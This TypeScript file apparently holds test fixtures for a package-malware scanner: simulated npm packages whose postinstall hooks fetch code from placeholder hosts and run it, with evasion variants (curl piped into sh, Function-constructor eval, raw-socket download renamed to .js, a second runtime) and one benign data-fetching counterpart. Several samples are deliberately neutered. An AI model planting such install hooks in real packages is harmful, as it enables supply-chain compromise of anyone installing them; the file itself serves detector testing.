import { base64 } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const inHook = { phase: ['install'] } as const;
const ran = finding('exec.fetched-code', 'critical', ['net.http', 'file.write', 'process.exec'], inHook);
/** A shell in a pipe may start before what it reads is asked for. */
const ranUnwritten = finding(
  'exec.fetched-code',
  'critical',
  [
    ['net.http', 'process.exec'],
    ['net.http', 'process.exec'],
  ],
  inHook,
);
const evaluated = finding('exec.fetched-code', 'critical', ['net.http', 'runtime.hook'], inHook);

/** B02: a hook fetches a script or another runtime and runs it. The sinkhole's answer is all there ever is to run. */
export const fetched: readonly Simulant[] = [
  {
    id: 'b02-fetches-script-and-runs-it',
    row: 'B02',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b02-script',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          (async () => {
            const answer = await fetch('http://stage.simulant.invalid/step.js');
            const file = path.join(os.tmpdir(), 'step-' + process.pid + '.js');
            fs.writeFileSync(file, await answer.text());
            require('node:child_process').spawnSync(process.execPath, [file], { stdio: 'ignore' });
          })().catch(() => {});
        `,
      ),
    ],
    expect: fires('malicious', [ran]),
    note: 'Fetch, write, run: the plainest chain.',
  },
  {
    id: 'b02-fetches-another-runtime',
    row: 'B02',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b02-runtime',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          const { spawnSync } = require('node:child_process');
          (async () => {
            const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'rt-'));
            const runtime = path.join(folder, 'bun');
            const answer = await fetch('http://runtime.simulant.invalid/bun-linux-x64');
            fs.writeFileSync(runtime, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
            spawnSync(runtime, ['run', path.join(__dirname, 'task.js')], { stdio: 'ignore' });
          })().catch(() => {});
        `,
        { 'task.js': text`console.log('simulant marker');` },
      ),
    ],
    expect: fires('malicious', [
      ran,
      finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook),
    ]),
    note: 'A second JavaScript runtime is fetched to run a shipped script out of sight of Node’s hooks.',
  },
  {
    id: 'b02-evasion-python-stage',
    row: 'B02',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b02-python',
        {
          'get.sh': text`
            #!/bin/sh
            d=$(mktemp -d) && curl -fs -m 5 -o "$d/s.py" http://stage.simulant.invalid/s.py && python3 "$d/s.py" > /dev/null 2>&1
            rm -f "$d/s.py"; rmdir "$d"
            exit 0
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh get.sh` } },
      ),
    ],
    expect: fires('malicious', [
      ran,
      finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook),
    ]),
    note: 'curl fetches, Python runs, nothing stays.',
  },
  {
    id: 'b02-evasion-curl-into-shell',
    row: 'B02',
    kind: 'evasion',
    form: 'plain',
    packages: [
      pkg(
        'b02-pipe',
        {},
        {
          scripts: { postinstall: `${latchCommand}(curl -fs -m 5 http://stage.simulant.invalid/i.sh | sh -n || true)` },
        },
      ),
    ],
    expect: fires('malicious', [ranUnwritten]),
    note: 'Never touches a file. The shell only parses (`-n`), so that even a hijacked name could run nothing.',
  },
  {
    id: 'b02-evasion-evaluates-answer',
    row: 'B02',
    kind: 'evasion',
    form: 'light',
    packages: [
      hooked(
        'b02-eval',
        armed`
          const h = require('node:' + ['ht', 'tp'].join(''));
          h.get('http://stage.simulant.invalid/' + '${base64('loader')}', (answer) => {
            let all = 'return 1;//';
            answer.setEncoding('utf8').on('data', (part) => { all += part.replace(/\s+/g, ' '); }).on('end', () => {
              try { [].filter.constructor(all)(); } catch { process.exitCode = 0; }
            });
          }).on('error', () => {});
        `,
      ),
    ],
    expect: fires('malicious', [evaluated]),
    note: 'The answer becomes a function body through the constructor of a function; it stands behind `//` and does nothing.',
  },
  {
    id: 'b02-evasion-required-later',
    row: 'B02',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b02-later',
        armed`
          const { a } = require('./lib/a'), { b } = require('./lib/b');
          a((bytes) => setTimeout(b, 400, bytes));
        `,
        {
          'lib/a.js': text`
            exports.a = (next) => {
              const socket = require('node:net').connect(80, 'stage.simulant.invalid');
              const parts = [];
              socket.on('data', (part) => parts.push(part)).on('error', () => {}).on('end', () => next(Buffer.concat(parts)));
              socket.end('GET /m HTTP/1.0\r\nHost: stage.simulant.invalid\r\n\r\n');
            };
          `,
          'lib/b.js': text`
            exports.b = (bytes) => {
              const file = require('node:path').join(__dirname, '..', '.cache-' + bytes.length + '.json');
              const at = bytes.indexOf('\r\n\r\n');
              require('node:fs').writeFileSync(file, bytes.subarray(at + 4));
              require('node:fs').renameSync(file, file.replace('.json', '.js'));
              try { require(file.replace('.json', '.js')); } catch { process.exitCode = 0; }
            };
          `,
        },
      ),
    ],
    expect: fires('malicious', [finding('exec.fetched-code', 'critical', ['net.http', 'file.write'], inHook)]),
    note: 'Hand-written HTTP over a socket, a data file renamed to code, loaded in process; three files.',
  },
  {
    id: 'b02-evasion-script-through-stdin',
    row: 'B02',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b02-stdin',
        armed`
          const { execFile } = require('node:child_process');
          const child = execFile('env', ['-i', 'node', '--check', '-'], { env: { PATH: process.env.PATH } }, () => {});
          child.stdin.on('error', () => {});
          fetch('http://stage.simulant.invalid/module').then((answer) => answer.text()).then((body) => child.stdin.end(body), () => child.kill());
        `,
      ),
    ],
    expect: fires('malicious', [
      finding(
        'exec.fetched-code',
        'critical',
        [
          ['net.http', 'process.exec'],
          ['net.http', 'process.exec'],
        ],
        inHook,
      ),
    ]),
    note: 'An interpreter without environment gets the fetched text on standard input; `--check` keeps it from running.',
  },
  {
    id: 'b02-neighbour-fetches-data',
    row: 'B02',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n02-data',
        {
          'update.js': text`
            const fs = require('node:fs'), path = require('node:path');
            fetch('https://data.acme.test/zones.json').then((answer) => answer.json()).then((zones) => {
              fs.writeFileSync(path.join(__dirname, 'zones.json'), JSON.stringify(zones));
            }).catch(() => console.log('zones: using the shipped list'));
          `,
          'zones.json': '{"zones":["A","B"]}\n',
          'index.js': text`module.exports = require('./zones.json').zones;`,
        },
        { homepage: 'https://data.acme.test/', scripts: { postinstall: 'node update.js' } },
      ),
    ],
    expect: quiet(['exec.', 'c2.', 'net.import-egress'], {
      allowed: { 'net.egress': 'low', 'install.prebuilt-download': 'low' },
    }),
    note: 'Fetched bytes are parsed as JSON into the own folder and never run.',
  },
];
